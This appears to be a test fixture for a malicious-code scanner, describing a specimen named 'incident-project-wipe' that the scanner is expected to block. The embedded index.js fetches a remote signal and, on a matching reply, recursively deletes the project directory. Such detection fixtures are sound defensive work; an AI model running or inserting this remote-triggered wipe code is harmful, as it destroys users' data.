import type { Specimen } from '../specimen.ts';

export const specimen: Specimen = {
  name: 'incident-project-wipe',
  from: 'achalk-next, 2025: the project deleted on a signal',
  files: {
    'index.js': `const { rmSync } = require('fs');
fetch('https://signal.invalid/').then(answer => answer.text()).then(word => {
  if (word === 'INERT') rmSync(process.cwd(), { recursive: true, force: true });
});
`,
  },
  expect: 'block',
  says: ['destroys-files'],
};
